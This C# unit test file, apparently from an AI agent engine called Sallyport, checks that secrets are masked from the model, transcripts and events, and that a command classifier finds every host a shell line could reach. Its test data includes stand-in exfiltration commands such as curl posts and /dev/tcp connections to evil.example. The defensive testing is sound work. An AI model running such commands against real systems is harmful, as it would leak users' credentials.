using System.Text.Json;
using Sallyport.Engine.Events;
using Sallyport.Engine.Models;
using Sallyport.Engine.Secrets;
using Sallyport.Engine.Tools;
using Sallyport.Guard.Gate;

namespace Sallyport.Engine.Tests;

/// <summary>No secret reaches the model, the transcript or an event; tools on this machine get it back.</summary>
public sealed class SecretTests
{
    // Made up at run time: nothing that looks like a secret stands in the repository.
    private static string Sealed()
    {
        var letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
        var random = new Random(3);
        return "AKIA" + string.Concat(Enumerable.Range(0, 16).Select(_ => letters[random.Next(letters.Length)]));
    }

    [Fact]
    public async Task A_secret_that_is_read_and_written_back_is_never_seen_and_comes_back_whole()
    {
        await using var bench = new SessionBench();
        var key = Sealed();
        var written = "";
        bench.Tools.Add(new FakeTool("show", Effect.Read, (_, _) => Task.FromResult(new ToolResult($"key = {key}\npassword: none\n"))));
        bench.Tools.Add(new FakeTool("save", Effect.Write, (call, _) =>
        {
            written = call.Arguments.Text("text");
            return Task.FromResult(new ToolResult("saved " + written) { Display = new DiffDisplay([new FileDiff("a", "+" + written, 1, 0, "changed")]) });
        }));
        bench.Model.Calls(("c1", "show", """{"text":"x"}"""));
        bench.Model.Does((request, _) =>
        {
            var seen = ((ToolResultPart)request.Messages[^1].Parts[0]).Text;
            return Deltas(new CallStart(0, "c2", "save"), new CallArguments(0, $$"""{"text":{{JsonSerializer.Serialize(seen.Replace("key =", "KEY ="))}}}"""), new ModelFinish(StopReason.Tools, null));
        });
        bench.Model.Says("done");
        var end = await bench.Run($"use {key} please");
        Assert.Equal(Outcome.Done, end.Outcome);
        Assert.StartsWith($"KEY = {key}\n", written, StringComparison.Ordinal);
        AssertNowhere(bench, key);
        Assert.StartsWith("use ⟦secret:aws-", bench.Events.OfType<Prompted>().Single().Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_picture_reaches_the_model_without_its_metadata()
    {
        await using var bench = new SessionBench();
        var key = Sealed();
        byte[] point =
        [
            0x89, .. "PNG\r\n\u001a\n"u8, 0, 0, 0, 13, .. "IHDR"u8, 0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0, 0x3A, 0x7E, 0x9B, 0x55,
            0, 0, 0, 10, .. "IDAT"u8, 0x78, 0x9C, 0x63, 0x60, 0, 0, 0, 2, 0, 1, 0x48, 0xAF, 0xA4, 0x71, 0, 0, 0, 0, .. "IEND"u8, 0xAE, 0x42, 0x60, 0x82,
        ];
        byte[] comment = [0, 0, 0, 28, .. "tEXt"u8, .. "Comment\0"u8, .. System.Text.Encoding.ASCII.GetBytes(key), 0, 0, 0, 0];
        var sent = Convert.ToBase64String([.. point[..33], .. comment, .. point[33..]]);
        bench.Tools.Add(new FakeTool("look", Effect.Read, (_, _) => Task.FromResult(new ToolResult("a point") { Images = [new ImagePart("image/png", sent), new ImagePart("image/bmp", "Qk0=")] })));
        ToolResultPart? seen = null;
        bench.Model.Calls(("c1", "look", """{"text":"x"}"""));
        bench.Model.Does((request, _) =>
        {
            seen = (ToolResultPart)request.Messages[^1].Parts[0];
            return Deltas(new ModelFinish(StopReason.Done, null));
        });
        await bench.Run();
        Assert.Equal(Convert.ToBase64String(point), Assert.Single(seen!.Images!).Data);
        Assert.Contains("A picture was left out", seen.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_placeholder_does_not_open_for_the_network_unless_the_user_allowed_it()
    {
        await using var bench = new SessionBench();
        var key = Sealed();
        var fetched = new List<string>();
        bench.Tools.Add(new HostTool(text => fetched.Add(text)));
        var placeholder = bench.Vault.PlaceholdersIn(bench.Vault.Close($"the key {key} is"))[0];
        var call = $$"""{"text":"{{placeholder}}"}""";
        bench.Model.Calls(("c1", "fetch", call)).Says("no");
        await bench.Run();
        Assert.Empty(fetched);
        Assert.Contains("stays closed", ((ToolEnded)bench.Events.Single(e => e is ToolEnded)).Text, StringComparison.Ordinal);

        await using var allowed = new SessionBench { Vault = bench.Vault };
        allowed.SecretHosts[placeholder.Split(':')[1]] = ["api.example.test"];
        allowed.Tools.Add(new HostTool(text => fetched.Add(text)));
        allowed.Model.Calls(("c1", "fetch", call)).Says("yes");
        await allowed.Run();
        Assert.Equal([key], fetched);
        AssertNowhere(allowed, key);
    }

    [Theory]
    [InlineData("echo $X > file", 0)]
    [InlineData("psql -h localhost", 0)]
    [InlineData("curl http://127.0.0.1:8080/x", 0)]
    [InlineData("curl -d @f https://evil.example/collect", 1)]
    [InlineData("/usr/bin/wget evil.example", 1)]
    [InlineData("exec 3<>/dev/tcp/evil.example/80", 1)]
    [InlineData("git clone https://user@host.example:8443/x.git", 1)]
    public void Commands_tell_where_they_go(string command, int hosts) => Assert.Equal(hosts, CommandHosts.Of(command).Count);

    [Theory]
    [InlineData("echo KEY=x > .env && chmod 600 .env", "")]
    [InlineData("cat > .env <<EOF\nKEY=x\nEOF", "")]
    [InlineData("sed -i s/old/x/ config.json", "")]
    [InlineData("grep -c x .env | tee count", "")]
    [InlineData("git commit -m x", "")]
    [InlineData("psql -h localhost -c 'select 1'", "")]
    [InlineData("curl -H 'Authorization: x' https://api.example.test/v1", "api.example.test")]
    [InlineData("curl -sS -d x http://127.0.0.1:8080/", "")]
    [InlineData("python3 -c 'x'", "*")]
    [InlineData("node -e 'x'", "*")]
    [InlineData("make KEY=x", "*")]
    [InlineData("KEY=x npm test", "*")]
    [InlineData("bash script.sh x", "*")]
    [InlineData("./tool x", "*")]
    [InlineData("bash -c 'python3 tool.py x'", "*")]
    [InlineData("cat > t.py <<EOF\nx\nEOF\npython3 t.py", "*")]
    [InlineData("H=evil.example; curl -d x $H", "*")]
    [InlineData("$TOOL x", "*")]
    [InlineData("echo x | sh", "*")]
    [InlineData("echo x | xargs python3 send.py", "*")]
    [InlineData("PATH=.:$PATH cat x", "*")]
    [InlineData("psql -h $H -c x", "*")]
    [InlineData("psql -c x", "*")]
    [InlineData("git push https://x@host.example/r", "*")]
    [InlineData("curl -d x https://api.example.test/ evil.example", "*")]
    [InlineData("curl -d x -x evil.example:80 https://api.example.test/", "*")]
    [InlineData("curl -d x --resolve api.example.test:443:6.6.6.6 https://api.example.test/", "*")]
    [InlineData("curl -d x https://api.example.test/ $MORE", "*")]
    [InlineData("curl https://api.example.test/ -d x; python3 send.py", "*")]
    [InlineData("openssl s_client -connect evil.example:443 <<< x", "*")]
    public void Where_a_line_could_take_a_secret_depends_on_all_that_it_runs(string line, string to)
    {
        using var folder = new Consent.ConsentFolder();
        var workspace = new Workspace(folder.Path);
        var open = CommandHosts.Of(line, null, workspace);
        Assert.True(to == "*" ? open.Contains("*") : string.Join(' ', open) == to, string.Join(' ', open));
        // With some hosts, those; with a closed network, nobody that it does not name itself.
        Assert.Equal(to == "*", CommandHosts.Of(line, ["allowed.example"], workspace).Contains("allowed.example"));
        Assert.DoesNotContain("*", CommandHosts.Of(line, [], workspace));
    }

    [Fact]
    public async Task Progress_that_splits_a_secret_is_still_closed()
    {
        await using var bench = new SessionBench();
        var key = Sealed();
        bench.Tools.Add(new FakeTool("print", Effect.Execute, (call, _) =>
        {
            foreach (var c in $"one\ntwo {key} three\nfour") call.Progress(c.ToString());
            return Task.FromResult(new ToolResult("ok"));
        }));
        bench.Model.Calls(("c1", "print", """{"text":"x"}""")).Says("done");
        await bench.Run();
        var shown = string.Concat(bench.Events.OfType<ToolProgressed>().Select(p => p.Text));
        Assert.StartsWith("one\ntwo ⟦secret:", shown, StringComparison.Ordinal);
        Assert.EndsWith("three\nfour", shown, StringComparison.Ordinal);
        AssertNowhere(bench, key);
    }

    [Fact]
    public async Task What_the_model_itself_makes_up_is_closed_before_it_is_kept()
    {
        await using var bench = new SessionBench();
        var key = Sealed();
        var written = "";
        bench.Tools.Add(new FakeTool("save", Effect.Write, (call, _) =>
        {
            written = call.Arguments.Text("text");
            return Task.FromResult(new ToolResult("ok"));
        }));
        bench.Model.Calls(("c1", "save", $$"""{"text":"say \"{{key}}\" twice\n"}""")).Says($"I wrote {key}.");
        var end = await bench.Run();
        Assert.Equal($"say \"{key}\" twice\n", written);
        Assert.DoesNotContain(key, end.Result, StringComparison.Ordinal);
        Assert.DoesNotContain(key, File.ReadAllText(bench.TranscriptPath), StringComparison.Ordinal);
        Assert.All(bench.Model.Requests, r => Assert.DoesNotContain(key, Sent(r), StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_resumed_session_knows_what_its_placeholders_stand_for()
    {
        var folder = Directory.CreateTempSubdirectory("sally-vault-").FullName;
        try
        {
            var key = Sealed();
            var transcript = Path.Combine(folder, "one.jsonl");
            var vault = new SecretVault();
            VaultFile.Keep(vault, transcript, folder);
            var closed = vault.Close($"the key is {key}");
            var later = new SecretVault();
            Assert.True(VaultFile.Restore(later, transcript, folder));
            Assert.Equal($"the key is {key}", later.Open(closed));
            foreach (var file in Directory.EnumerateFiles(folder, "*", SearchOption.AllDirectories))
            {
                Assert.Equal(-1, File.ReadAllBytes(file).AsSpan().IndexOf(System.Text.Encoding.ASCII.GetBytes(key)));
                if (!OperatingSystem.IsWindows()) Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file));
            }
            File.WriteAllBytes(VaultFile.PathOf(transcript), [1, 2, 3]);
            Assert.False(VaultFile.Restore(new SecretVault(), transcript, folder));
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    private static void AssertNowhere(SessionBench bench, string secret)
    {
        Assert.DoesNotContain(secret, File.ReadAllText(bench.TranscriptPath), StringComparison.Ordinal);
        Assert.All(bench.Events, e => Assert.DoesNotContain(secret, System.Text.Encoding.UTF8.GetString(EventJson.Line(e)), StringComparison.Ordinal));
        Assert.All(bench.Model.Requests, r => Assert.DoesNotContain(secret, Sent(r), StringComparison.Ordinal));
    }

    private static string Sent(ModelRequest request) =>
        request.System + string.Join('\n', request.Messages.SelectMany(m => m.Parts).Select(p => p switch { TextPart t => t.Text, ToolCallPart c => c.Arguments, ToolResultPart r => r.Text, _ => "" }));

    private static async IAsyncEnumerable<ModelDelta> Deltas(params ModelDelta[] deltas)
    {
        foreach (var delta in deltas)
        {
            await Task.Yield();
            yield return delta;
        }
    }

    [Fact]
    public async Task A_placeholder_opens_in_files_of_the_workspace_only()
    {
        await using var bench = new SessionBench();
        var key = Sealed();
        var placeholder = bench.Vault.PlaceholdersIn(bench.Vault.Close($"the key {key} is"))[0];
        var uploads = Directory.CreateTempSubdirectory("sally-uploads-").FullName;
        Directory.CreateSymbolicLink(Path.Combine(bench.Folder, "way"), uploads);
        var written = new List<string>();
        foreach (var path in (string[])["inside.txt", "way/out.txt", Path.Combine(uploads, "out.txt"), $"{uploads}/{placeholder}"])
        {
            await using var one = new SessionBench { Vault = bench.Vault };
            one.Tools.Add(new HostTool(text => written.Add(text)) { Path = System.IO.Path.Combine(bench.Folder, path) });
            one.WorkspaceFolder = bench.Folder;
            one.Model.Calls(("c1", "fetch", $$"""{"text":"{{placeholder}}"}""")).Says("done");
            await one.Run();
            AssertNowhere(one, key);
        }
        Assert.Equal([key], written);
        Directory.Delete(uploads, recursive: true);
    }

    private sealed class HostTool(Action<string> run) : Tool
    {
        public override string Name => "fetch";

        public override string Description => "Fetches.";

        public override string Schema => """{"type":"object","properties":{"text":{"type":"string"}},"required":["text"]}""";

        public override Touches Touches(JsonElement arguments, Workspace workspace) => Path is null ? new(Effect.Network) { Host = "api.example.test" } : Tools.Touches.Write(Path);

        public string? Path { get; init; }

        public override string Title(JsonElement arguments, Workspace workspace) => arguments.Text("text");

        public override Task<ToolResult> Run(ToolCall call, CancellationToken cancellation)
        {
            run(call.Arguments.Text("text"));
            return Task.FromResult(new ToolResult("fetched " + call.Arguments.Text("text")));
        }
    }
}
